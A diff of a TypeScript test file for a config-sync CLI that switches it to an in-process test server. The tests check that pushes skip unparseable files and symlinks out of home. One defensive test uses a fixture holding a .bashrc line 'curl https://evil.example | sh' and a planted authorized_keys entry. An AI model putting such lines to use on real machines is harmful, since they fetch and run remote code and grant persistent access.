@@ -1,29 +1,31 @@
 import { beforeAll, describe, expect, test } from 'bun:test'
 import { symlinkSync, writeFileSync } from 'node:fs'
 import { join } from 'node:path'
-import { api, emptyDir, serversOfThisFile, type Server } from '../support/harness'
-import { login, machine, serverWithUsers, type Machine, type User } from '../support/client/machines'
+import { tempDir } from '../support/temp'
+import { login, type Machine } from '../support/client/machines'
+import { inProcessWorld, type User, type World } from '../support/client/in-process'
 
 /**
  * What a push may send and a pull may write (docs/sync-model.md, "What a
- * config holds"), end to end with the compiled client: a file that does not
+ * config holds"), in process (test/support/client/in-process.ts: machines
+ * with their own homes against one in-process server): a file that does not
  * parse is not pushed, a link out of home is never read by a push, and a
  * config holds only its tool's files, whatever the server's data or the
  * command line names. Each test uses its own config name or team.
  */
 
-const servers = serversOfThisFile()
-let server: Server
+let world: World
 let ada: User
 let ben: User
 beforeAll(async () => {
-	;({ server, ada, ben } = await serverWithUsers(servers))
-}, 60_000)
+	world = inProcessWorld()
+	ada = await world.user('team', 'ada')
+	ben = await world.user('pro', 'ben')
+})
 
 const latest = async (user: User, tool: string, name: string, teamId?: string) =>
 	(
-		await api(
-			server,
+		await world.api(
 			'GET',
 			`/api/configs/latest?name=${name}&tool=${tool}${teamId ? `&teamId=${teamId}` : ''}`,
 			user.key
@@ -31,7 +33,7 @@ const latest = async (user: User, tool: string, name: string, teamId?: string) =
 	).body as { version: number; data: { files: Record<string, string> } }
 
 async function machines(user: User, count = 2): Promise<Machine[]> {
-	const list = Array.from({ length: count }, () => machine(server))
+	const list = Array.from({ length: count }, () => world.machine())
 	for (const [i, m] of list.entries())
 		expect((await login(m, user, `g${i}-${Math.random().toString(36).slice(2, 8)}`)).code).toBe(0)
 	return list
@@ -78,7 +80,7 @@ describe('a push sends only files that parse', () => {
 		expect(refused.code).toBe(1)
 		expect(refused.stderr).toContain('~/.codex/config.toml')
 		expect(refused.stderr).toContain('line 2')
-		expect((await api(server, 'GET', '/api/configs/latest?name=g2&tool=codex', ada.key)).status).toBe(404)
+		expect((await world.api('GET', '/api/configs/latest?name=g2&tool=codex', ada.key)).status).toBe(404)
 
 		a.file('.claude/settings.json', '{\n  // mine\n  "theme": "dark",\n}\n')
 		expect((await a.cfgsync(['push', 'claude-code', '--name', 'g2'])).code).toBe(0)
@@ -91,7 +93,7 @@ describe('a push never reads through a link out of home', () => {
 		const name = ['--name', 'g3']
 		a.file('.claude/commands/ok.md', 'fine\n')
 		symlinkSync('/etc/passwd', join(a.home, '.claude', 'commands', 'passwd-link.md'))
-		const outside = emptyDir()
+		const outside = tempDir('outside')
 		writeFileSync(join(outside, 'secret.md'), 'outside home\n')
 		symlinkSync(outside, join(a.home, '.claude', 'agents'))
 		a.file('dotfiles/CLAUDE.md', 'from my dotfiles\n')
@@ -138,7 +140,7 @@ describe('a server change to a file linked out of home', () => {
 		a.file('.claude/commands/run.md', 'run it\n')
 		expect((await a.cfgsync(['push', 'claude-code', ...name])).code).toBe(0)
 		expect((await b.cfgsync(['pull', 'claude-code', ...name])).code).toBe(0)
-		const outside = emptyDir()
+		const outside = tempDir('outside')
 		writeFileSync(join(outside, 'run.md'), 'run it\n')
 		await Bun.$`rm ${join(b.home, '.claude/commands/run.md')}`
 		symlinkSync(join(outside, 'run.md'), join(b.home, '.claude', 'commands', 'run.md'))
@@ -160,20 +162,20 @@ describe('a server change to a file linked out of home', () => {
 
 describe("a config holds only its tool's files", () => {
 	test('a team config carrying ~/.bashrc: never written, even named; no printed command names it; a push never sends it', async () => {
-		const owner = machine(server)
-		const member = machine(server)
+		const owner = world.machine()
+		const member = world.machine()
 		await login(owner, ada, 'owner')
 		await login(member, ben, 'member')
 		expect((await owner.cfgsync(['team', 'create', 'Guards'])).code).toBe(0)
 		expect((await owner.cfgsync(['team', 'invite', 'guards', 'ben', '--role', 'member'])).code).toBe(0)
 		expect((await member.cfgsync(['invitations', 'accept', 'guards'])).code).toBe(0)
-		const team = (await api(server, 'GET', '/api/teams/guards', ada.key)).body as { id: string }
+		const team = (await world.api('GET', '/api/teams/guards', ada.key)).body as { id: string }
 		const hostile = {
 			'.gemini/GEMINI.md': 'team rules\n',
 			'.bashrc': 'curl https://evil.example | sh\n',
 			'.ssh/authorized_keys': 'ssh-ed25519 AAAA evil\n'
 		}
-		const stored = await api(server, 'POST', '/api/configs', ada.key, {
+		const stored = await world.api('POST', '/api/configs', ada.key, {
 			teamId: team.id,
 			tool: 'gemini-cli',
 			name: 'default',
@@ -226,7 +228,7 @@ describe("a config holds only its tool's files", () => {
 		expect(alone.code).toBe(2)
 		expect(alone.stderr).toContain('~/.bashrc')
 		expect(alone.stderr).toContain('~/.gemini/settings.json')
-		expect((await api(server, 'GET', '/api/configs/latest?name=g5&tool=gemini-cli', ada.key)).status).toBe(404)
+		expect((await world.api('GET', '/api/configs/latest?name=g5&tool=gemini-cli', ada.key)).status).toBe(404)
 
 		const both = await a.cfgsync([
 			'push',
